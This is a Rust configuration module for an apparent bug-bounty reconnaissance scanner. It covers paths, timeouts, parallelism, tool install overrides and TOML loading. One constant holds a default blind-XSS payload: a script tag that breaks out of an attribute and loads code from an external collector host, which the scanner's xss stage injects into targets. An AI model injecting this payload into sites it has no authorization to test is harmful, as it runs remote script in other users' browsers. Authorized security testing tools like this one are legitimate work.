//! Scanner configuration.
//!
//! Paths are resolved once from the home directory and then passed around
//! explicitly, so several runs can coexist in one process with different
//! directories. A TOML file may override any field; CLI flags are applied on
//! top by the caller.

use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::errors::ConfigError;

/// Default blind-XSS payload injected by the `xss` stage.
pub const DEFAULT_XSS_PAYLOAD: &str = "\"><script src=https://xss.report/c/reconflow></script>";

/// Overrides for one entry of the tool registry.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct ToolOverride {
    /// Replacement install command.
    pub install: Option<String>,
    /// Replacement binary name.
    pub binary: Option<String>,
    /// Replacement post-install setup command.
    pub setup: Option<String>,
}

/// Configuration for one scanner process.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct ScannerConfig {
    /// Tool cache directory; installed binaries land in `<tools_dir>/bin`.
    pub tools_dir: PathBuf,
    /// Root under which per-run output directories are created.
    pub output_root: PathBuf,
    /// Default per-stage timeout in seconds. `None` waits indefinitely.
    pub stage_timeout_secs: Option<u64>,
    /// Upper bound on concurrently executing stages in parallel mode.
    pub max_parallel: Option<usize>,
    /// Whether missing tools are installed during bootstrap.
    pub install_missing: bool,
    /// Payload used by the blind-XSS stage.
    pub xss_payload: String,
    /// Per-tool overrides keyed by tool name.
    pub tools: BTreeMap<String, ToolOverride>,
}

impl Default for ScannerConfig {
    fn default() -> Self {
        let home = dirs::home_dir().unwrap_or_else(|| PathBuf::from("."));
        Self::from_home(&home)
    }
}

impl ScannerConfig {
    /// Builds the default layout under the given home directory.
    #[must_use]
    pub fn from_home(home: &Path) -> Self {
        Self {
            tools_dir: home.join(".bounty_tools"),
            output_root: home.join("bounty_output"),
            stage_timeout_secs: None,
            max_parallel: None,
            install_missing: true,
            xss_payload: DEFAULT_XSS_PAYLOAD.to_string(),
            tools: BTreeMap::new(),
        }
    }

    /// Loads a TOML config file; absent fields keep their defaults.
    ///
    /// # Errors
    ///
    /// Returns an error if the file cannot be read or parsed.
    pub fn load(path: &Path) -> Result<Self, ConfigError> {
        let content = std::fs::read_to_string(path).map_err(|source| ConfigError::Read {
            path: path.to_path_buf(),
            source,
        })?;
        toml::from_str(&content).map_err(|source| ConfigError::Parse {
            path: path.to_path_buf(),
            source,
        })
    }

    /// The directory installed binaries are placed in.
    #[must_use]
    pub fn tools_bin_dir(&self) -> PathBuf {
        self.tools_dir.join("bin")
    }

    /// The default per-stage timeout.
    #[must_use]
    pub fn stage_timeout(&self) -> Option<Duration> {
        self.stage_timeout_secs
            .filter(|secs| *secs > 0)
            .map(Duration::from_secs)
    }

    /// Sets the tool cache directory.
    #[must_use]
    pub fn with_tools_dir(mut self, dir: impl Into<PathBuf>) -> Self {
        self.tools_dir = dir.into();
        self
    }

    /// Sets the output root.
    #[must_use]
    pub fn with_output_root(mut self, dir: impl Into<PathBuf>) -> Self {
        self.output_root = dir.into();
        self
    }

    /// Sets the default per-stage timeout.
    #[must_use]
    pub const fn with_stage_timeout_secs(mut self, secs: u64) -> Self {
        self.stage_timeout_secs = Some(secs);
        self
    }

    /// Bounds the number of concurrently executing stages.
    #[must_use]
    pub const fn with_max_parallel(mut self, max: usize) -> Self {
        self.max_parallel = Some(max);
        self
    }

    /// Disables installation of missing tools.
    #[must_use]
    pub const fn without_install(mut self) -> Self {
        self.install_missing = false;
        self
    }
}
